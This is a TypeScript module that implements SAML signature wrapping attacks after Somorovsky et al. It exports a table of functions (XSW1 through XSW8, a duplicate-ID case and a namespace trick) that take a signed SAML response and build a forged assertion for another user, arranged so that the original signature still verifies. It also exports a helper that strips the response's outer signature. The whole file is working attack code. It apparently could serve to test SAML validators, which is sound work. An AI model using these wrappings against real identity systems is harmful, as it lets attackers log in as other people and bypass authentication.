/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the signed assertion is kept elsewhere,
 * so that the signature verifies, and a forged one takes its place.
 */

type Wrap = (response: string, signedName: string, forgedName: string) => string;

const signaturePattern = /<(?:ds:)?Signature .*<\/(?:ds:)?Signature>/s;

/** Splits a response into its assertion, and the signature in it. */
const parts = (response: string): { assertion: string; signature: string } => {
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
  return { assertion, signature: signaturePattern.exec(assertion)?.[0] ?? '' };
};

const bare = (assertion: string): string => assertion.replace(signaturePattern, '');
const renamed = (assertion: string): string =>
  assertion.replace(/(<saml:Assertion [^>]*?\bID=")[^"]*/, '$1_forged');
const withObject = (signature: string, content: string): string =>
  signature.replace(
    /<\/(ds:)?Signature>$/,
    (end, prefix = '') => `<${prefix}Object>${content}</${prefix}Object>${end}`,
  );

/** Removes the signature of the whole response: attackers hope that the assertion's is enough. */
export function withoutOuterSignature(response: string): string {
  const { assertion } = parts(response);
  const at = response.indexOf(assertion);
  return bare(response.slice(0, at)) + response.slice(at);
}

/** Forges an assertion of another person, with or without the ID of the signed one. */
const forge = (assertion: string, from: string, to: string): string => bare(assertion).replaceAll(from, to);

export const wrappings: Record<string, Wrap> = {
  'the forged assertion stands before the signed one (XSW3)': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, renamed(forge(assertion, from, to)) + assertion);
  },
  'the forged assertion stands after the signed one': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, assertion + renamed(forge(assertion, from, to)));
  },
  'the forged assertion holds the signed one (XSW4)': (response, from, to) => {
    const { assertion } = parts(response);
    const forged = renamed(forge(assertion, from, to));
    return response.replace(assertion, forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
  },
  'the signature moves into the forged assertion, the signed one to the end (XSW5)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const forged = renamed(forge(assertion, from, to)).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature}`,
    );
    return response
      .replace(assertion, forged)
      .replace('</samlp:Response>', `${bare(assertion)}</samlp:Response>`);
  },
  'the signature in the forged assertion holds the signed one (XSW6)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const wrapped = withObject(signature, bare(assertion));
    return response.replace(
      assertion,
      renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${wrapped}`),
    );
  },
  'the signed assertion hides in Extensions (XSW7)': (response, from, to) => {
    const { assertion } = parts(response);
    return response
      .replace(assertion, renamed(forge(assertion, from, to)))
      .replace('<samlp:Status>', `<samlp:Extensions>${assertion}</samlp:Extensions><samlp:Status>`);
  },
  'the signed assertion hides in an object of a second signature (XSW8)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const object = withObject(signature, assertion);
    return response.replace(
      assertion,
      renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${object}`),
    );
  },
  'both have the same ID': (response, from, to) => {
    const { assertion } = parts(response);
    return response.replace(assertion, forge(assertion, from, to) + assertion);
  },
  'a whole signed response hides in another (XSW1)': (response, from, to) => {
    const { assertion } = parts(response);
    const outer = response
      .replace(assertion, renamed(forge(assertion, from, to)))
      .replace(/ ID="[^"]*"/, ' ID="_outer"');
    return outer.replace('</samlp:Response>', `${response}</samlp:Response>`);
  },
  'a signed response stands beside its signature in another (XSW2)': (response, from, to) => {
    const { assertion, signature } = parts(response);
    const outer = response
      .replace(assertion, renamed(forge(assertion, from, to)))
      .replace(/ ID="[^"]*"/, ' ID="_outer"');
    return outer.replace('<samlp:Status>', `${signature}${bare(response)}<samlp:Status>`);
  },
  'the forged assertion is called by another namespace': (response, from, to) => {
    const { assertion } = parts(response);
    const forged = renamed(forge(assertion, from, to))
      .replaceAll('saml:', 'x:')
      .replace('<x:Assertion', '<x:Assertion xmlns:x="urn:x"');
    return response.replace(assertion, forged + assertion);
  },
};
